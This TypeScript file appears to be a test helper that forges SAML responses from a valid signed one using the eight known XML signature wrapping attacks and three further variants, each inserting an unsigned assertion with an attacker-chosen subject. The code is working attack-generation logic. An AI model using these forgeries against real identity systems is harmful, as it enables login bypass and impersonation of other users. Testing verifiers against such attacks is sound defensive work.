import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

const signatures = 'http://www.w3.org/2000/09/xmldsig#'

/**
 * Answers made from a valid one, whose response and assertion are both signed, that say something else while the signed
 * element is still somewhere in them: the eight ways of signature wrapping (Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be", 2012; numbers as in SAML Raider), and three of our own.
 */
export function wrapped(valid: string, subject: string): Record<string, string> {
  const text = Buffer.from(valid, 'base64').toString()
  const made = Object.entries(ways).map(([name, change]) => {
    const document = new DOMParser().parseFromString(text, 'text/xml')
    const response = document.documentElement
    const assertion = only(response, 'Assertion')
    const parts = {
      document,
      response,
      assertion,
      /** Returns the response and the assertion that the attacker wants to be believed, without signatures. */
      evilResponse: () => evil(response, subject),
      evilAssertion: () => evil(assertion, subject),
    }
    const root = change(parts) ?? response
    return [name, Buffer.from(new XMLSerializer().serializeToString(root)).toString('base64')]
  })
  return Object.fromEntries(made)
}

type Parts = {
  document: Document
  response: Element
  assertion: Element
  evilResponse: () => Element
  evilAssertion: () => Element
}

const only = (parent: Element, name: string): Element => {
  const child = Array.from(parent.childNodes).find((node) => (node as Element).localName === name)
  if (!child) throw new Error(`There is no ${name}`)
  return child as Element
}

const copy = (element: Element) => element.cloneNode(true) as Element

function without(element: Element): Element {
  const bare = copy(element)
  bare.removeChild(only(bare, 'Signature'))
  return bare
}

function evil(element: Element, subject: string): Element {
  const made = without(element)
  made.setAttribute('ID', `_evil${element.localName}`)
  const assertion = made.localName === 'Assertion' ? made : only(made, 'Assertion')
  if (made !== assertion) {
    assertion.setAttribute('ID', '_evilAssertion')
    assertion.removeChild(only(assertion, 'Signature'))
  }
  only(only(assertion, 'Subject'), 'NameID').textContent = subject
  return made
}

/** Ways to wrap a signature. Each changes the document, or returns another root. */
const ways: Record<string, (parts: Parts) => Element | undefined> = {
  'XSW1: the response inside its signature'({ response, evilResponse }) {
    const root = evilResponse()
    const signature = copy(only(response, 'Signature'))
    signature.appendChild(without(response))
    root.insertBefore(signature, root.firstChild?.nextSibling ?? null)
    return root
  },
  'XSW2: the response beside its signature'({ response, evilResponse }) {
    const root = evilResponse()
    root.appendChild(without(response))
    root.appendChild(copy(only(response, 'Signature')))
    return root
  },
  'XSW3: another assertion before it'({ response, assertion, evilAssertion }) {
    response.insertBefore(evilAssertion(), assertion)
    return undefined
  },
  'XSW4: the assertion inside another'({ response, assertion, evilAssertion }) {
    const outer = evilAssertion()
    response.replaceChild(outer, assertion)
    outer.appendChild(assertion)
    return undefined
  },
  'XSW5: the signature in another assertion, the signed one behind'({ response, assertion, evilAssertion }) {
    const outer = evilAssertion()
    outer.insertBefore(copy(only(assertion, 'Signature')), outer.firstChild?.nextSibling ?? null)
    response.replaceChild(outer, assertion)
    response.appendChild(without(assertion))
    return undefined
  },
  'XSW6: the signed assertion inside the signature of another'({ response, assertion, evilAssertion }) {
    const outer = evilAssertion()
    const signature = copy(only(assertion, 'Signature'))
    signature.appendChild(without(assertion))
    outer.insertBefore(signature, outer.firstChild?.nextSibling ?? null)
    response.replaceChild(outer, assertion)
    return undefined
  },
  'XSW7: another assertion in the extensions'({ document, response, assertion, evilAssertion }) {
    const extensions = document.createElementNS(response.namespaceURI, 'samlp:Extensions')
    extensions.appendChild(evilAssertion())
    response.insertBefore(extensions, assertion)
    return undefined
  },
  'XSW8: the signed assertion in an object of the signature'({
    document,
    response,
    assertion,
    evilAssertion,
  }) {
    const outer = evilAssertion()
    const signature = copy(only(assertion, 'Signature'))
    const object = document.createElementNS(signatures, 'ds:Object')
    object.appendChild(without(assertion))
    signature.appendChild(object)
    outer.insertBefore(signature, outer.firstChild?.nextSibling ?? null)
    response.replaceChild(outer, assertion)
    return undefined
  },
  'another assertion with the same ID'({ response, assertion, evilAssertion }) {
    const twin = evilAssertion()
    twin.setAttribute('ID', assertion.getAttribute('ID') ?? '')
    response.insertBefore(twin, assertion)
    return undefined
  },
  'an assertion without a namespace before it'({ document, response, assertion, evilAssertion }) {
    const plain = document.createElement('Assertion')
    for (const child of Array.from(evilAssertion().childNodes)) plain.appendChild(child)
    response.insertBefore(plain, assertion)
    return undefined
  },
  'an assertion with the signature of the response'({ response, assertion, evilAssertion }) {
    const outer = evilAssertion()
    outer.insertBefore(copy(only(response, 'Signature')), outer.firstChild?.nextSibling ?? null)
    response.replaceChild(outer, assertion)
    return undefined
  },
}
